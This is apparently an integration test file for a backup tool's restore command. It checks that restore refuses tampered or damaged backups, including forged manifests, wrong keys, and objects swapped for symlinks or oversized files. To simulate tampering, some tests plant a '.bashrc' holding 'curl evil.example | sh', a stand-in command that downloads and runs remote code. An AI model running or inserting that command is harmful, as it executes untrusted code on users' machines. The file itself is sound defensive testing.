/**
 * What `docsearch restore` refuses, through the built binary on backups `docsearch backup` made of a library a real
 * daemon serves: a damaged newest backup (named, never replaced by an older one unless that one is named), and a
 * repository someone else wrote to: a sealed manifest they altered, an unsealed one with entries outside `files/`
 * and `lancedb/`, an object swapped for a link to /dev/zero or a larger file (refused before more than the size the
 * manifest states is written: the restores run with a file-size limit, past which a write fails).
 * The backup key is passed as DOCSEARCH_BACKUP_KEY_FILE.
 */
import { spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addUser, BIN, type Daemon, runCli, startDaemon, type TestUser } from '../helpers/daemon.js';
import { tempDirs } from '../helpers/temp-dirs.js';
import { uploadFiles } from '../ingest/pipeline/helpers.js';
import { takeBackups } from './backup-compare.js';

const NOTES = [
  { name: 'marmots.txt', bytes: Buffer.from('Marmots hibernate in burrows through the long alpine winter.\n') },
  { name: 'tides.txt', bytes: Buffer.from('The moon pulls the oceans, and the tides rise twice a day.\n') },
];
/** A file-size limit for restores that must not write much: a process writing past it is ended (SIGXFSZ). */
const FSIZE_LIMIT = 16 * 1024 * 1024;

interface Entry {
  path: string;
  key: string;
  size: number;
  sha256: string;
}
type Manifest = Record<string, unknown> & { id: string; files: Entry[]; checksum: string };

describe('docsearch restore refuses what it cannot vouch for', () => {
  let d: Daemon;
  let user: TestUser;
  const dirs = tempDirs('docsearch-restore-refusals');
  let repo: string;
  let ids: string[];
  let env: Record<string, string>;
  const manifestPath = (id: string, at = repo) => join(at, 'backups', id, 'manifest.json');
  const readManifest = (id: string, at = repo) => JSON.parse(readFileSync(manifestPath(id, at), 'utf8')) as Manifest;
  /** A manifest rewritten as whoever can write the repository can: its unkeyed checksum made to match. */
  const forge = (id: string, m: Record<string, unknown>, at = repo) => {
    const checksum = createHash('sha256').update(JSON.stringify({ ...m, checksum: undefined, seal: undefined })).digest('hex');
    writeFileSync(manifestPath(id, at), JSON.stringify({ ...m, checksum }));
  };
  const restore = (args: string[]) => runCli(['restore', ...args], { env, timeoutMs: 240_000 });
  /** A restore under the file-size limit: a write past it fails (EFBIG). */
  const limitedRestore = (args: string[]) =>
    new Promise<{ code: number | null; signal: NodeJS.Signals | null; stderr: string }>((resolve) => {
      const proc = spawn('prlimit', [`--fsize=${FSIZE_LIMIT}`, process.execPath, BIN, 'restore', ...args], { env: { ...process.env, ...env }, stdio: ['ignore', 'ignore', 'pipe'] });
      let stderr = '';
      proc.stderr.on('data', (b: Buffer) => (stderr += b.toString()));
      proc.once('close', (code, signal) => resolve({ code, signal, stderr }));
    });
  /** A copy of the repository to tamper with. */
  const copyOfRepo = () => {
    const dir = join(dirs.make('tampered'), 'repo');
    cpSync(repo, dir, { recursive: true });
    return dir;
  };

  beforeAll(async () => {
    d = await startDaemon();
    dirs.keep(d.dataDir);
    user = await addUser(d);
    const up = await uploadFiles(d, user.apiKey, NOTES, { query: '?wait=true' });
    expect(up.status, JSON.stringify(up.body)).toBe(200);
    repo = join(dirs.make('repo'), 'repo');
    env = { DOCSEARCH_BACKUP_KEY_FILE: join(d.dataDir, 'backup.key') };
    ids = await takeBackups(d.dataDir, repo, 2);
  }, 600_000);
  afterAll(async () => {
    await d?.stop();
    dirs.removeAll();
  });

  it('a damaged newest backup is refused, naming it and the one to name instead; named, the older one is restored', async () => {
    const [older, newest] = ids as [string, string];
    const damaged = copyOfRepo();
    const text = readFileSync(manifestPath(newest, damaged));
    const at = text.indexOf('"taken_at"') + 20;
    text[at] = text[at]! ^ 1;
    writeFileSync(manifestPath(newest, damaged), text);

    const target = join(dirs.make('damaged'), 'data');
    const refused = await restore(['--from', damaged, '--to', target]);
    expect(refused.code, refused.stderr).toBe(1);
    expect(refused.stderr).toContain(`backup ${newest}`);
    expect(refused.stderr).toMatch(/is damaged: its manifest does not match its checksum; restore does not fall back to an older backup/);
    expect(refused.stderr).toContain(`--backup ${older}`);
    expect(existsSync(target), 'nothing was written').toBe(false);

    const list = await restore(['--from', damaged, '--list', '--json']);
    expect(JSON.parse(list.stdout)).toMatchObject([
      { id: older, status: 'complete', complete: true },
      { id: newest, status: 'damaged', complete: false },
    ]);

    const none = await restore(['--from', damaged, '--backup', '20990101T000000Z-000000', '--to', target]);
    expect(none.code).toBe(1);
    expect(none.stderr).toContain(`there is no backup 20990101T000000Z-000000 in ${damaged}`);

    const named = await restore(['--from', damaged, '--backup', older, '--to', target, '--json']);
    expect(named.code, named.stderr).toBe(0);
    expect(JSON.parse(named.stdout)).toMatchObject({ id: older, verified: true });
  }, 300_000);

  it('a sealed manifest moved into another backup’s folder, to pass an old backup off as the newest, is refused', async () => {
    const moved = copyOfRepo();
    const [older] = ids as [string, string];
    const later = `${older.slice(0, 4)}9${older.slice(5)}`; // the same moment, years later
    mkdirSync(join(moved, 'backups', later), { recursive: true });
    cpSync(join(moved, 'backups', older), join(moved, 'backups', later), { recursive: true });
    const target = join(dirs.make('moved'), 'data');
    const res = await restore(['--from', moved, '--to', target]);
    expect(res.code, res.stderr).toBe(1);
    expect(res.stderr).toContain(`backup ${later} in ${moved} is damaged: its manifest names backup ${older}, not ${later} (the folder it is in)`);
    expect(existsSync(target)).toBe(false);
  }, 300_000);

  it('without the backup key, a sealed backup is refused, naming --key-file', async () => {
    const target = join(dirs.make('keyless'), 'data');
    const res = await runCli(['restore', '--from', repo, '--to', target], { env: { DOCSEARCH_BACKUP_KEY_FILE: '' }, timeoutMs: 120_000 });
    expect(res.code).toBe(1);
    expect(res.stderr).toContain(`backup ${ids[1]}`);
    expect(res.stderr).toMatch(/cannot be checked: it is sealed with backup key [0-9a-f]{16}, and no key was given/);
    expect(res.stderr).toMatch(/--key-file/);
    expect(existsSync(target)).toBe(false);
    expect(statSync(join(d.dataDir, 'backup.key')).mode & 0o777, 'the key backup made is its owner’s alone').toBe(0o600);
  }, 300_000);

  it('sealed with another key than the one given, or with none given: --list says which; restore refuses, naming the key; on --trust-repository it restores, without the secrets key and saying so', async () => {
    const [older, newest] = ids as [string, string];
    const sealedWith = readManifest(newest).key_id as string;
    expect(readManifest(newest).secrets_key, 'the backup carries the secrets key the daemon made').toBeTruthy();
    // Any file of at least 32 characters is a key (docs/operations.md): here one that sealed nothing.
    const otherKey = join(dirs.make('other-key'), 'backup.key');
    writeFileSync(otherKey, `${randomBytes(32).toString('hex')}\n`, { mode: 0o600 });
    const withOther = (args: string[]) => runCli(['restore', ...args, '--key-file', otherKey], { env, timeoutMs: 240_000 });
    const noKey = (args: string[]) => runCli(['restore', ...args], { env: { DOCSEARCH_BACKUP_KEY_FILE: '' }, timeoutMs: 240_000 });

    const listed = JSON.parse((await withOther(['--from', repo, '--list', '--json'])).stdout) as { id: string; status: string; complete: boolean; key_id: string }[];
    expect(listed.map((b) => [b.id, b.status, b.complete, b.key_id])).toEqual([
      [older, 'other-key', false, sealedWith],
      [newest, 'other-key', false, sealedWith],
    ]);
    expect((await withOther(['--from', repo, '--list'])).stdout).toMatch(new RegExp(`^${newest}  other key +taken at \\S+  \\d+ files  it is sealed with backup key ${sealedWith}, not with the key given \\(${otherKey}, key [0-9a-f]{16}\\)$`, 'm'));
    const unchecked = await noKey(['--from', repo, '--list']);
    expect(unchecked.stdout).toMatch(new RegExp(`^${newest}  sealed +taken at \\S+  \\d+ files  with key ${sealedWith}, not checked \\(no --key-file\\)$`, 'm'));
    expect(JSON.parse((await noKey(['--from', repo, '--list', '--json'])).stdout).map((b: { status: string }) => b.status)).toEqual(['unchecked', 'unchecked']);

    const target = join(dirs.make('other-key-target'), 'data');
    const refused = await withOther(['--from', repo, '--to', target]);
    expect(refused.code, refused.stderr).toBe(1);
    expect(refused.stderr).toContain(`backup ${newest} in ${repo} cannot be checked: it is sealed with backup key ${sealedWith}, not with the key given (${otherKey}`);
    expect(refused.stderr).toContain('--trust-repository');
    expect(existsSync(target), 'nothing was written').toBe(false);

    // The key lost: --trust-repository restores it, files still checked; its secrets key, wrapped under the lost key, does not open.
    const trusted = await withOther(['--from', repo, '--to', target, '--trust-repository', '--json']);
    expect(trusted.code, trusted.stderr).toBe(0);
    expect(JSON.parse(trusted.stdout)).toMatchObject({ id: newest, verified: true, key_id: null, secrets_key_id: null });
    expect(trusted.stderr).toContain(`backup ${newest} is restored on trust (--trust-repository)`);
    expect(trusted.stderr).toMatch(/the secrets key backup \S+ carries \(id \S+\) opens only with the backup key that sealed it, not given/);
    expect(existsSync(join(target, 'docsearch.db'))).toBe(true);
    // Neither the key that checked nothing nor a secrets key is put in place.
    expect(existsSync(join(target, 'backup.key'))).toBe(false);
    expect(existsSync(join(target, 'secrets.key'))).toBe(false);
  }, 300_000);

  it('a sealed manifest altered by whoever can write the repository is refused, and what it added is not placed', async () => {
    const tampered = copyOfRepo();
    const id = ids[1]!;
    const m = readManifest(id, tampered);
    writeFileSync(join(tampered, 'objects', '.bashrc'), 'curl evil.example | sh\n');
    const bashrc = { path: '.bashrc', key: 'objects/.bashrc', size: 23, sha256: createHash('sha256').update('curl evil.example | sh\n').digest('hex') };
    forge(id, { ...m, files: [...m.files, bashrc] }, tampered);
    const target = join(dirs.make('altered'), 'data');
    const res = await restore(['--from', tampered, '--to', target]);
    expect(res.code, res.stderr).toBe(1);
    expect(res.stderr).toMatch(/does not match its seal: it was altered after it was written/);
    expect(existsSync(join(target, '.bashrc'))).toBe(false);
  }, 300_000);

  it('an unsealed manifest with entries outside files/ and lancedb/ is refused, trusted or not; one without is restored only on --trust-repository', async () => {
    const tampered = copyOfRepo();
    const id = ids[1]!;
    const { key_id: _k, seal: _s, ...m } = readManifest(id, tampered);
    writeFileSync(join(tampered, 'objects', '.bashrc'), 'curl evil.example | sh\n');
    const sha = createHash('sha256').update('curl evil.example | sh\n').digest('hex');
    const extra = [
      { path: '.bashrc', key: 'objects/.bashrc', size: 23, sha256: sha },
      { path: 'models/evil.onnx', key: 'objects/.bashrc', size: 23, sha256: sha },
    ];
    const target = join(dirs.make('unsealed'), 'data');
    for (const entry of extra) {
      forge(id, { ...m, format: 1, files: [...m.files, entry] }, tampered);
      for (const trust of [[], ['--backup', id, '--trust-repository']]) {
        const refused = await restore(['--from', tampered, '--to', target, ...trust]);
        expect(refused.code, refused.stderr).toBe(1);
        expect(refused.stderr).toContain(`backup ${id}`);
        expect(refused.stderr).toContain(`is damaged: its manifest lists ${JSON.stringify(entry.path)}, which is not an original (files/<ab>/<its sha256>) or an index file (lancedb/…)`);
        expect(existsSync(target), 'nothing was written').toBe(false);
      }
    }
    // The same manifest without the extra entries: not sealed, so restored only on trust, which is said.
    forge(id, { ...m, format: 1 }, tampered);
    const refused = await restore(['--from', tampered, '--to', target]);
    expect(refused.code, refused.stderr).toBe(1);
    expect(refused.stderr).toMatch(/is not sealed: it was written by docsearch .* before backups were sealed/);
    expect(refused.stderr).toMatch(/--trust-repository/);
    const ok = await restore(['--from', tampered, '--to', target, '--trust-repository', '--json']);
    expect(ok.code, ok.stderr).toBe(0);
    expect(JSON.parse(ok.stdout)).toMatchObject({ id, verified: true, key_id: null });
    expect(ok.stderr).toMatch(/restored on trust \(--trust-repository\)/);
  }, 300_000);

  it('an object swapped for a link to /dev/zero or a larger file is refused before more than its stated size is written', async () => {
    const id = ids[1]!;
    const original = readManifest(id).files.find((f) => f.path.startsWith('files/'))!;
    for (const swap of ['link to /dev/zero', 'larger file'] as const) {
      const tampered = copyOfRepo();
      const object = join(tampered, original.key);
      rmSync(object);
      if (swap === 'link to /dev/zero') symlinkSync('/dev/zero', object);
      else {
        writeFileSync(object, '');
        truncateSync(object, 4 * FSIZE_LIMIT); // sparse: nothing to read from the disk
      }
      const target = join(dirs.make('swapped'), 'data');
      const res = await limitedRestore(['--from', tampered, '--to', target]);
      // Node ignores SIGXFSZ: a write past the limit fails with EFBIG instead of ending the process.
      expect(`${res.signal ?? ''} ${res.stderr}`, `${swap}: the restore wrote past ${FSIZE_LIMIT} bytes`).not.toMatch(/SIGXFSZ|EFBIG|file too large/);
      expect(res.code, res.stderr).toBe(1);
      expect(res.stderr).toContain(`backup ${id} is damaged`);
      expect(res.stderr).toMatch(swap === 'larger file' ? new RegExp(`${4 * FSIZE_LIMIT} bytes, the manifest says ${original.size} bytes`) : /is a symbolic link where a regular file belongs: refused/);
      const placed = existsSync(target) ? readdirSync(target, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()) : [];
      const written = placed.reduce((n, e) => n + statSync(join(e.parentPath, e.name)).size, 0);
      expect(written, 'only files that check out were placed').toBeLessThan(FSIZE_LIMIT);
      expect(existsSync(join(target, original.path))).toBe(false);
    }
    // A manifest that is a link to /dev/zero is not read at all.
    const tampered = copyOfRepo();
    rmSync(manifestPath(id, tampered));
    symlinkSync('/dev/zero', manifestPath(id, tampered));
    const list = await restore(['--from', tampered, '--list', '--json']);
    expect(list.code, list.stderr).toBe(0);
    expect(JSON.parse(list.stdout)[1]).toMatchObject({ id, status: 'damaged', problem: expect.stringMatching(/its manifest cannot be read: .* is a symbolic link where a regular file belongs/) });
  }, 300_000);
});
